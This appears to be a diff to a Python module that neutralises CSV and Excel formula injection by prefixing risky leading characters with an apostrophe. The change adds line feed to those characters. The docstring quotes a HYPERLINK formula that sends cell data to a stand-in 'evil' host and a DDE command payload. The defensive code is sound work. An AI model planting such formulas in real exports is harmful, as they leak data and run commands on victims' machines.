@@ -4,7 +4,8 @@ A narrative ``=HYPERLINK("http://evil…"&A2, "details")`` or ``=cmd|' /C calc'!
 become a live formula in the coordinator's Excel (CWE-1236, "CSV injection"):
 - in .xlsx files every text is written as a text cell (openpyxl would make a string that
   starts with ``=`` a formula), with Excel's "quote prefix" so that editing keeps it text;
-- in CSV files a text that starts with ``= + - @``, a tab or a carriage return gets a leading
+- in CSV files a text that starts with ``= + - @``, a tab, a carriage return or a line feed
+  (which some spreadsheets trim before running what follows) gets a leading
   apostrophe, as OWASP recommends; a text that already starts with an apostrophe gets one
   more, so that ``restore_text`` gives back exactly what was written, and an export imports
   back to the same texts.
@@ -15,11 +16,13 @@ from __future__ import annotations
 import csv
 import io
 from collections.abc import Iterable, Sequence
+from typing import TYPE_CHECKING
 
-import pandas as pd
-from openpyxl.cell.cell import Cell
+if TYPE_CHECKING:  # the reader imports this module in its child process: keep that light
+    import pandas as pd
+    from openpyxl.cell.cell import Cell
 
-TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
 QUOTE = "'"
 
 
